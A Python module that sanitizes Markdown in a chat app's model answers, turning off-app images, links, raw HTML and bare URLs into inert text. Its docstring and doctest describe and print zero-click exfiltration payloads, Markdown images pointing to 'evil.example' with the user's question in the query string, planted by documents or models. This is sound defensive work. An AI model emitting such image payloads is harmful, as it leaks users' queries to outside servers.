"""Markdown that fetches and links nothing foreign: images, links and raw HTML become text.

A chat page renders answers as Markdown, and the browser fetches every image at once: an
image that a document or a model writes, `![x](https://evil.example/p.png?q=<the question>)`,
sends the question to that server before anyone clicks (a zero-click leak), and a link invites
a click to anywhere. `safe_markdown` keeps images and links that point into the app itself
(`own_prefixes`) and turns every other one into its text with the address as inline code,
which the renderer neither fetches nor links. It is pure and idempotent: running it twice
gives the same text, so the chain may apply it to a passage and again to the answer built
from it.
"""

from __future__ import annotations

import re
from collections.abc import Callable

__all__ = ["OWN_PREFIXES", "safe_markdown"]

OWN_PREFIXES = ("/plant/", "/public/")

_FENCE = re.compile(r"(?ms)^[ \t]{0,3}(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]{0,3}\1[ \t]*$|\Z)")
_CODE_SPAN = re.compile(r"(?s)(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")
# the target of an inline image or link: (url), (<url>), (url "title")
_TARGET = (
    r"\(\s*(?P<url><[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)"
)
_LABEL = r"\[(?P<text>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]"
_IMAGE = re.compile(rf"!{_LABEL}{_TARGET}")
_LINK = re.compile(rf"{_LABEL}{_TARGET}")
_DEFINITION = re.compile(
    r"(?m)^(?P<indent>[ \t]{0,3})\[(?P<label>[^\]\n]+)\]:[ \t]*(?P<url><[^>\n]*>|\S+)"
    r"(?P<title>[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?[ \t]*$"
)
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_HTML_ANCHOR = re.compile(r"(?is)<a\b(?P<attrs>[^>]*)>(?P<text>.*?)</a\s*>")
_HTML_IMAGE = re.compile(r"(?is)<img\b(?P<attrs>[^>]*)/?>")
_ATTRIBUTE = r"""\b{name}\s*=\s*(?:"(?P<dq>[^"]*)"|'(?P<sq>[^']*)'|(?P<bare>[^\s>]+))"""
# what GFM links without any markup: scheme URLs and www. addresses
_BARE_URL = re.compile(r"(?i)(?<![\w/`])(?:https?://|ftp://|www\.)[^\s<>`]*")
_TRAILING = ".,;:!?)'\""
_TAG_START = re.compile(r"(?<!\\)<(?=[A-Za-z/!?])")
_PLACEHOLDER = re.compile("\x00(\\d+)\x00")


class _Stash:
    """Fragments set aside so that later steps leave them alone, restored at the end."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def __call__(self, fragment: str) -> str:
        self.parts.append(fragment)
        return f"\x00{len(self.parts) - 1}\x00"

    def restore(self, text: str) -> str:
        while _PLACEHOLDER.search(text):  # a stashed fragment may hold placeholders itself
            text = _PLACEHOLDER.sub(lambda m: self.parts[int(m.group(1))], text)
        return text


def _code(url: str) -> str:
    """The address as inline code: shown, never fetched or linked."""
    url = url.replace("`", "").strip()
    return f"`{url}`" if url else ""


def _unwrap(url: str) -> str:
    return url[1:-1] if url.startswith("<") and url.endswith(">") else url


def _attribute(attrs: str, name: str) -> str:
    found = re.search(_ATTRIBUTE.format(name=name), attrs, re.IGNORECASE)
    if found is None:
        return ""
    return found.group("dq") or found.group("sq") or found.group("bare") or ""


def safe_markdown(text: str, own_prefixes: tuple[str, ...] = OWN_PREFIXES) -> str:
    """`text` with every image, link, reference definition, raw HTML tag and bare URL that
    does not point into the app (`own_prefixes`) made plain text; code is left as it is.

    Example:
        >>> safe_markdown("Done ![s](https://evil.example/p.png?q=torque) [1]")
        'Done s (`https://evil.example/p.png?q=torque`) [1]'
        >>> safe_markdown("[chart](/plant/charts/od-12.png) and <https://x.example>")
        '[chart](/plant/charts/od-12.png) and `https://x.example`'
    """

    def own(url: str) -> bool:
        return _unwrap(url).startswith(own_prefixes)

    stash = _Stash()
    text = text.replace("\x00", "")
    text = _FENCE.sub(lambda m: stash(m.group(0)), text)
    text = _CODE_SPAN.sub(lambda m: stash(m.group(0)), text)

    def inline(match: re.Match[str], kind: str) -> str:
        if own(match.group("url")):
            return stash(match.group(0))
        label, url = match.group("text").strip(), _unwrap(match.group("url")).strip()
        if not url:
            return label or kind
        if label == url:
            return stash(_code(url))
        return f"{label or kind} ({stash(_code(url))})"

    text = _IMAGE.sub(lambda m: inline(m, "image"), text)
    text = _LINK.sub(lambda m: inline(m, "link"), text)
    text = _DEFINITION.sub(lambda m: _definition(m, own, stash), text)
    text = _html(text, own, stash)
    text = _BARE_URL.sub(lambda m: _bare(m.group(0), stash), text)
    # what is left of markup split across pieces ("![a." then "b](url)") must not join up
    text = text.replace("![", "!\\[").replace("](", "]\\(")
    text = _TAG_START.sub(r"\\<", text)  # "\<" shows "<" and opens no tag
    return stash.restore(text)


def _definition(match: re.Match[str], own: Callable[[str], bool], stash: _Stash) -> str:
    """`[ref]: url` — the target of a reference-style link or image."""
    if own(match.group("url")):
        return stash(match.group(0))
    url = stash(_code(_unwrap(match.group("url"))))
    return f"{match.group('indent')}\\[{match.group('label')}]: {url}{match.group('title') or ''}"


def _html(text: str, own: Callable[[str], bool], stash: _Stash) -> str:
    """Raw HTML images and anchors as text; autolinks `<https://…>` as inline code. Other tags
    are escaped afterwards with the rest."""

    def image(match: re.Match[str]) -> str:
        src = _attribute(match.group("attrs"), "src")
        if src and own(src):
            return stash(match.group(0))
        alt = _attribute(match.group("attrs"), "alt").strip() or "image"
        return f"{alt} ({stash(_code(src))})" if src else alt

    def anchor(match: re.Match[str]) -> str:
        href = _attribute(match.group("attrs"), "href")
        if href and own(href):
            return stash(match.group(0))
        label = match.group("text").strip()
        return f"{label} ({stash(_code(href))})" if href else label

    text = _HTML_IMAGE.sub(image, text)
    text = _HTML_ANCHOR.sub(anchor, text)
    return _AUTOLINK.sub(lambda m: stash(_code(m.group("url"))), text)


def _bare(url: str, stash: _Stash) -> str:
    """A URL GFM would link by itself, as inline code; closing punctuation stays outside."""
    core = url.rstrip(_TRAILING)
    return stash(_code(core)) + url[len(core) :]
